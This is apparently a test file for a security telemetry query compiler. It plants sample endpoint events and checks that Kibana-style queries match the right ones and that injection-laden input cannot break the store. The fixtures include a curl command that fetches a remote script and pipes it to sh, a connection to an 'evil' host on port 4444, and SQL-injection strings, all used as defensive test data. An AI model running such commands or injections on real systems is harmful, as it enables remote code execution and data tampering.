import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openTelemetryStore } from '../store/telemetry/chdb-store.ts'
import { EVENTS } from '../store/telemetry/event-table.ts'
import type { TelemetryStore } from '../store/telemetry/telemetry-store.ts'
import { compileQuery } from './compile.ts'
import { FIELDS } from './fields.ts'

const NOW = Date.parse('2026-11-24T12:00:00Z')
const AGENT = 'aaaabbbbccccddddeeeeffff22'
const OTHER = 'bbbbbbbbccccddddeeeeffff33'
const EPOCH = '01a20d6d-5b90-7c9b-8378-2e328fd2af15'
const SHA = 'ab'.repeat(32)
const ODD = `it's 100% "odd_" \\ {q0:String} ; drop table firebreak.events -- /* */ é\u0000\u202e`

let dir: string
let store: TelemetryStore

/** One event a number; what is not said is not there. */
const PLANTED: Readonly<Record<number, Record<string, unknown>>> = {
  1: {
    '@timestamp': '2026-11-24T10:00:00.000Z',
    process: {
      pid: 100,
      name: 'curl',
      executable: '/usr/bin/curl',
      command_line: 'curl -s http://203.0.113.9/x.sh | sh',
      entity_id: 'Ent:1',
      hash: { sha256: SHA },
      user: { id: '0', name: 'root' },
      parent: { pid: 1, name: 'systemd', command_line: '/sbin/init splash' },
      args: ['curl', '-s', 'http://203.0.113.9/x.sh'],
    },
  },
  2: {
    '@timestamp': '2026-11-24T11:00:00.500Z',
    process: {
      pid: 200,
      name: 'CURL.EXE',
      executable: String.raw`C:\Windows\System32\curl.exe`,
      command_line: String.raw`C:\Windows\System32\curl.exe -o libcurl.dll`,
    },
    registry: { path: String.raw`HKLM\Software\Run` },
  },
  3: {
    '@timestamp': '2026-11-23T23:59:59.999Z',
    event: { category: ['network'], type: ['connection', 'start'], action: 'connection-opened' },
    process: { pid: 100, name: 'curl' },
    source: { ip: '10.1.2.3', port: 40000 },
    destination: { ip: '203.0.113.9', port: 4444, domain: 'Evil.Example.COM', bytes: 0 },
  },
  4: {
    '@timestamp': '2026-11-20T00:00:00.000Z',
    event: { category: ['network'], type: ['connection'], action: 'connection-opened' },
    source: { ip: '::1', port: 0 },
    destination: { ip: '2001:db8::5', port: 80 },
    dns: { question: { name: 'api.example.com', type: 'A' }, resolved_ip: ['198.51.100.7', '2001:db8::9'] },
  },
  5: {
    '@timestamp': '2026-11-24T11:30:00Z',
    event: { category: ['file'], type: ['creation'], action: 'file-created' },
    file: { path: '/tmp/a b/pässword.txt', name: 'pässword.txt', extension: 'txt', size: 0, mode: '0644' },
    user: { id: '1000', name: 'Alice' },
  },
  6: {
    '@timestamp': '2026-11-24T11:31:00Z',
    event: { category: ['file'], type: ['change'], action: 'file-changed' },
    file: { path: '/etc/passwd', name: 'passwd', size: 4096, mtime: '2026-11-24T11:30:59.5Z' },
  },
  7: { '@timestamp': '2026-11-24T11:40:00Z', process: { pid: 300, name: 'sh', command_line: ODD, exit_code: 0 } },
  8: {
    '@timestamp': '2026-11-24T11:41:00Z',
    event: { category: ['process'], type: ['end'], action: 'process-ended' },
    process: { pid: 300, name: 'sh', exit_code: 137, end: '2026-11-24T11:41:00Z' },
    message: 'cannot open display: and not or',
  },
  9: {
    '@timestamp': '2026-11-24T11:42:00Z',
    process: {
      pid: 400,
      name: 'kworker/0:1',
      command_line: '',
      ancestors: [{ pid: 2, entity_id: 'Ent:2', name: 'kthreadd' }],
    },
    firebreak: { executable: { deleted: true } },
  },
}
/** Planted by the other host. */
const OF_OTHER = new Set([2, 6])
const ALL = Object.keys(PLANTED).map(Number)

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'fb-kql-'))
  store = await openTelemetryStore(dir)
  await store.insert(
    'planted',
    Object.entries(PLANTED).map(([seq, event]) => ({
      agentId: OF_OTHER.has(Number(seq)) ? OTHER : AGENT,
      epoch: EPOCH,
      class: 'process',
      seq: Number(seq),
      ingestedAt: '2026-11-24T11:59:00.000Z',
      json: Buffer.from(
        JSON.stringify({
          event: { category: ['process'], type: ['start'], action: 'process-started' },
          host: { name: OF_OTHER.has(Number(seq)) ? 'win-1' : 'web-1' },
          ...event,
        }),
      ),
    })),
  )
}, 60_000)
afterAll(async () => {
  await store.close()
  rmSync(dir, { recursive: true, force: true })
}, 30_000)

async function matching(query: string): Promise<number[]> {
  const compiled = compileQuery(query, NOW)
  if (!compiled.ok) throw new Error(compiled.why)
  const found = await store.find({ where: compiled.value, order: 'oldest', limit: 100 })
  if (!found.ok) throw new Error(found.why)
  return found.value.map(({ key }) => key.seq).toSorted((a, b) => a - b)
}

const not = (...seqs: number[]) => ALL.filter((seq) => !seqs.includes(seq))

describe('a query of events', () => {
  it.each<[string, number[]]>([
    ['', ALL],
    ['*', ALL],
    ['*:*', ALL],
    // keyword: whole value, without case
    ['process.name:curl', [1, 3]],
    ['process.name:CURL', [1, 3]],
    ['process.name:"curl"', [1, 3]],
    ['process.name:cur', []],
    ['process.name:cur*', [1, 2, 3]],
    ['process.name:*.exe', [2]],
    ['process.name:"cur*"', []],
    ['process.name:c*l*e', [2]],
    ['process.name:"kworker/0:1"', [9]],
    [String.raw`process.name:kworker/0\:1`, [9]],
    ['process.name:(curl or sh)', [1, 3, 7, 8]],
    ['process.name:(cur* and not *.exe)', [1, 3]],
    ['user.name:alice', [5]],
    ['process.user.name:root', [1]],
    ['file.path:"/tmp/a b/pässword.txt"', [5]],
    ['file.path:/tmp/a b/PÄSSWORD.txt', [5]],
    ['file.path:/etc/*', [6]],
    ['file.path:*passwd', [6]],
    ['file.path:*p?sswd', []],
    [String.raw`process.executable:"C:\Windows\System32\curl.exe"`, [2]],
    [String.raw`process.executable:*\\system32\\*`, [2]],
    ['event.category:network', [3, 4]],
    ['event.type:start and event.category:network', [3]],
    ['event.type:(connection and start)', [3]],
    // wildcards in names
    ['process.*:curl', [1, 2, 3]],
    ['*.name:passwd', [6]],
    ['*:203.0.113.9', [1, 3]],
    ['user*.name:*', [5]],
    // existence
    ['destination.port:*', [3, 4]],
    ['not destination.port:*', not(3, 4)],
    ['process.command_line:*', [1, 2, 7]],
    ['process.exit_code:*', [7, 8]],
    ['file.size:*', [5, 6]],
    ['dns.*:*', [4]],
    ['host.id:*', ALL],
    ['file.mtime:*', [6]],
    ['process.name:""', [4, 5, 6]],
    // operators
    ['process.name:curl and destination.port:4444', [3]],
    ['process.name:curl and not destination.port:4444', [1]],
    ['process.name:curl or file.path:/etc/passwd', [1, 3, 6]],
    ['not process.name:curl', not(1, 3)],
    ['not (process.name:curl or process.name:sh)', not(1, 3, 7, 8)],
    ['process.name:sh or process.name:curl and process.pid:100', [1, 3, 7, 8]],
    ['(process.name:sh or process.name:curl) and process.pid:300', [7, 8]],
    // numbers
    ['process.pid:100', [1, 3]],
    ['process.pid >= 200 and process.pid < 400', [2, 7, 8]],
    ['process.pid > 300', [9]],
    ['process.pid <= 100', [1, 3]],
    ['destination.port:(80 or 443 or 4444)', [3, 4]],
    ['destination.port < 1024', [4]],
    ['not destination.port >= 1024', not(3)],
    ['process.exit_code:0', [7]],
    ['process.exit_code > 128', [8]],
    ['not process.exit_code:0', not(7)],
    ['file.size:0', [5]],
    ['file.size < 10', [5]],
    ['file.size >= 0', [5, 6]],
    ['source.port:0', [4]],
    ['destination.bytes:0', [3]],
    // addresses
    ['destination.ip:203.0.113.9', [3]],
    ['destination.ip:"203.0.113.0/24"', [3]],
    ['destination.ip:203.0.0.0/8', [3]],
    ['source.ip:"10.0.0.0/8"', [3]],
    ['not source.ip:"10.0.0.0/8"', not(3)],
    ['destination.ip:"2001:db8::/32"', [4]],
    ['destination.ip:"2001:DB8:0:0:0:0:0:5"', [4]],
    ['destination.ip:"::ffff:203.0.113.9"', [3]],
    ['destination.ip:203.0.*', [3]],
    ['destination.ip >= 203.0.113.0 and destination.ip <= 203.0.113.255', [3]],
    ['destination.ip < "::ffff:ffff:ffff"', [3]],
    ['dns.resolved_ip:198.51.100.7', [4]],
    ['dns.resolved_ip:"198.51.100.0/24"', [4]],
    ['source.ip:"::1"', [4]],
    ['source.ip:"::/0"', [4]],
    // hashes, domains, ids
    [`process.hash.sha256:${SHA}`, [1]],
    [`process.hash.sha256:${SHA.toUpperCase()}`, [1]],
    [`*.sha256:${SHA}`, [1]],
    ['destination.domain:evil.example.com', [3]],
    ['destination.domain:*.example.com', [3]],
    ['dns.question.name:API.example.com', [4]],
    ['process.entity_id:"Ent:1"', [1]],
    ['process.entity_id:"ent:1"', []],
    [`host.id:${OTHER}`, [2, 6]],
    [`event.id:"${AGENT}:${EPOCH}:process:3"`, [3]],
    [`event.id:"${OTHER}:${EPOCH}:process:3"`, []],
    ['host.name:WEB-1', not(2, 6)],
    // times
    ['@timestamp >= "2026-11-24T11:30:00Z"', [5, 6, 7, 8, 9]],
    ['@timestamp:2026-11-23', [3]],
    ['@timestamp > 2026-11-23', not(3, 4)],
    ['@timestamp <= 2026-11-23', [3, 4]],
    ['@timestamp < 2026-11-23', [4]],
    ['@timestamp >= now-1h', [2, 5, 6, 7, 8, 9]],
    ['@timestamp:"2026-11-24T11"', [2, 5, 6, 7, 8, 9]],
    ['@timestamp:"2026-11-24T11:00:00.5Z"', [2]],
    ['@timestamp < "2026-11-24T12:00+02:00"', [3, 4]],
    ['event.ingested:2026-11-24', ALL],
    ['file.mtime > "2026-11-24T11:30:59Z"', []],
    ['file.mtime >= "2026-11-24T11:30:59Z"', [6]],
    ['file.mtime:"2026-11-24T11:30:59.5Z"', [6]],
    ['not file.mtime >= 2020', not(6)],
    // prose: words, phrases
    ['process.command_line:curl', [1, 2]],
    ['process.command_line:sh', [1]],
    ['process.command_line:"curl -s"', [1]],
    ['process.command_line:"CURL -S"', [1]],
    ['process.command_line:"url -s"', []],
    ['process.command_line:-s curl', [1]],
    ['process.command_line:"| sh"', [1]],
    ['process.command_line:203.0.113.9', [1]],
    ['process.command_line:203.0.113', [1]],
    ['process.command_line:libcurl', [2]],
    ['process.command_line:lib', []],
    ['process.command_line:*lib*', [2]],
    ['process.command_line:curl*', [1]],
    ['process.command_line:*x.sh | sh', [1]],
    ['process.parent.command_line:splash', [1]],
    ['process.args:-s', [1]],
    ['process.args:"203.0.113.9/x.sh"', [1]],
    ['message:"cannot open"', [8]],
    ['message:display cannot', [8]],
    [String.raw`message:\and \not \or`, [8]],
    ['message:"open, display"', []],
    // free text
    ['curl', [1, 2]],
    ['CURL -s', [1]],
    ['"x.sh | sh"', [1]],
    ['passwd', [6]],
    ['pässword', [5]],
    ['passw*', [6]],
    ['*sword.txt', [5]],
    ['cur*exe', [2]],
    ['evil.example.com', [3]],
    ['203.0.113.9', [1, 3]],
    ['198.51.100.7', [4]],
    [SHA, [1]],
    ['"Ent:1"', [1]],
    ['not curl', not(1, 2)],
    ['curl and not libcurl', [1]],
    // fields that are only in the text of events
    ['process.ancestors.name:kthreadd', [9]],
    ['process.ancestors.pid:2', [9]],
    ['process.ancestors.name:kth*', [9]],
    ['firebreak.executable.deleted:true', [9]],
    ['firebreak.executable.deleted:*', [9]],
    ['firebreak.executable.deleted:false', []],
    // nothing in a value is a command of its own
    [`process.command_line:${JSON.stringify(ODD).replaceAll(String.raw`\u202e`, '\u202e')}`, [7]],
    [`process.command_line:"it's 100% \\"odd_\\""`, [7]],
    ['process.command_line:*100% "odd_*'.replace('"', String.raw`\"`), [7]],
    ['process.command_line:*100_ *', []],
    ['process.command_line:"drop table firebreak.events"', [7]],
    [`process.name:"' or 1=1 --"`, []],
    [`process.name:"\\\\' or 1=1 --"`, []],
    [`"') or 1=1 --"`, []],
    ['process.name:"{q0:String}"', []],
    ['process.name:"{p0:String}"', []],
    ['process.command_line:"{q0:String}"', [7]],
    ['process.name:"\\u0000"', []],
    ['process.command_line:"é\\u0000"', [7]],
    ['process.name:"\ud800"', []],
    ['process.name:"😀/*"', []],
  ])('%j finds what Kibana would', async (query, seqs) => {
    expect(await matching(query)).toEqual(seqs)
  })

  it.each([
    ['process.nam:curl', 1, 'query_unknown_field', /unknown field process\.nam, did you mean process\.name\?/],
    ['a:1 and proces.name:curl', 1, 'query_unknown_field', /unknown field a/],
    ['process.pid:100 and pid:1', 21, 'query_unknown_field', /did you mean process\.pid\?/],
    ['Process.Name:curl', 1, 'query_unknown_field', /did you mean process\.name\?/],
    ['constructor:1', 1, 'query_unknown_field', /unknown field constructor/],
    ['process.x*:1', 1, 'query_unknown_field', /no field is called process\.x\*/],
    ['http://x', 1, 'query_unknown_field', /put in double quotes/],
    ['destination.port:abc', 18, 'query_bad_value', /destination\.port holds numbers; expected one, found "abc"/],
    ['destination.port:80 443', 18, 'query_bad_value', /several are destination\.port:\(80 or 443\)/],
    ['destination.port:44*', 18, 'query_bad_value', /numbers, which have no wildcards/],
    ['process.name > a', 16, 'query_bad_value', /process\.name is a keyword field, and > works on numbers/],
    ['destination.ip:"10.0.0.0/33"', 16, 'query_bad_value', /not a block of addresses/],
    ['destination.ip >= local', 19, 'query_bad_value', /expected one such as 10\.0\.0\.1/],
    ['@timestamp > yesterday', 14, 'query_bad_value', /"yesterday" is not a time; a time looks like/],
    ['@timestamp:2026-*', 12, 'query_bad_value', /holds times/],
    ['firebreak.executable.deleted:maybe', 30, 'query_bad_value', /true or false/],
    ['""', 1, 'query_bad_value', /expected a text/],
    [Array.from({ length: 20 }, () => '*:x').join(' or '), 0, 'query_too_many_terms', /name the fields/],
  ])('refuses %j at column %d with %s', (query, column, code, why) => {
    const compiled = compileQuery(query, NOW)
    if (compiled.ok) throw new Error('taken')
    expect(compiled.code).toBe(code)
    expect(compiled.why).toMatch(why)
    if (column > 0) expect(compiled.at.from + 1).toBe(column)
  })

  it('takes every query that its README teaches', () => {
    const readme = readFileSync(new URL('README.md', import.meta.url), 'utf8')
    const rows = readme.split('\n').filter((line) => line.startsWith('| `'))
    const queries = rows.flatMap((row) =>
      [...(row.split(' | ')[0] ?? '').matchAll(/`([^`]+)`/g)].map(([, query = '']) => query),
    )
    expect(queries.length).toBeGreaterThan(20)
    for (const query of queries) {
      const compiled = compileQuery(query, NOW)
      // Letters that stand for any condition.
      if (!/\b[abc]\b/.test(query)) expect(compiled.ok ? '' : compiled.why, query).toBe('')
    }
  })

  it('asks every field there is every kind of question, and the store answers each', async () => {
    for (const { name, type } of FIELDS.values()) {
      const value = {
        keyword: 'x',
        text: 'x y',
        number: '1',
        ip: '10.0.0.1',
        date: '2026-11-24',
        boolean: 'true',
        id: 'x',
      }[type]
      const questions = [`${name}:${value}`, `${name}:*`, `not ${name}:${value}`]
      if (type === 'number' || type === 'date' || type === 'ip')
        questions.push(`${name} >= ${value}`, `${name} < ${value}`)
      if (type === 'keyword' || type === 'text') questions.push(`${name}:x*y`)
      await matching(questions.map((question) => `(${question})`).join(' or '))
    }
  }, 120_000)

  it('never throws and never runs a command of its own, whatever is typed', async () => {
    const nasty = fc.constantFrom(
      "'",
      '"',
      '\\',
      '--',
      '/*',
      '*/',
      '{',
      '}',
      '{q0:String}',
      '\u0000',
      '\ud800',
      '%',
      '_',
      '`',
      ';',
      ')',
      '😀',
    )
    const value = fc
      .array(fc.oneof(nasty, fc.string({ maxLength: 4 })), { maxLength: 8 })
      .map((parts) => parts.join(''))
    const query = fc
      .tuple(
        fc.constantFrom(
          'process.name',
          'process.command_line',
          'process.args',
          'file.path',
          'destination.ip',
          'host.id',
          'event.id',
          '',
        ),
        value,
      )
      .map(([name, text]) => `${name === '' ? '' : `${name}:`}"${text.replaceAll(/[\\"]/g, String.raw`\$&`)}"`)
    await fc.assert(
      fc.asyncProperty(fc.array(query, { minLength: 8, maxLength: 8 }), async (queries) => {
        const compiled = queries.map((one) => compileQuery(one, NOW)).filter((one) => one.ok)
        for (const { value: where } of compiled) {
          const found = await store.find({ where, order: 'newest', limit: 1 })
          expect(found.ok).toBe(true)
        }
      }),
      { numRuns: 25 },
    )
    expect(await store.count()).toBe(ALL.length)
  }, 60_000)

  it('finds what it looks for by the indexes, also where an or or a not stands beside', async () => {
    const skips = async (query: string) => {
      const compiled = compileQuery(query, NOW)
      if (!compiled.ok) throw new Error(compiled.why)
      const { sql, params } = compiled.value
      const rows = await store.select<{ explain: string }>({
        sql: `select explain from (explain indexes = 1 select count() from ${EVENTS} where ${sql})`,
        params,
      })
      if (!rows.ok) throw new Error(rows.why)
      return rows.value
        .map(({ explain }) => explain.trim())
        .filter((line) => /^Name: (lookups|words|by_time)/.test(line))
        .map((line) => line.slice(6))
    }
    for (const query of [
      `process.hash.sha256:${SHA}`,
      'destination.ip:203.0.113.9',
      'destination.domain:evil.example.com',
      'process.entity_id:"Ent:1"',
      'dns.resolved_ip:198.51.100.7',
      `process.hash.sha256:${SHA} and not process.name:sh`,
      `destination.ip:203.0.113.9 or source.ip:10.1.2.3`,
    ])
      expect(await skips(query), query).toContain('lookups')
    for (const query of [
      'curl',
      'process.command_line:"curl -s"',
      'process.command_line:*/usr/bin/curl *',
      'evil and curl',
    ])
      expect(await skips(query), query).toContain('words')
    expect(await skips('@timestamp >= now-1h and process.name:curl')).toContain('by_time')
    expect(await skips(SHA)).toEqual(expect.arrayContaining(['lookups']))
  })
})
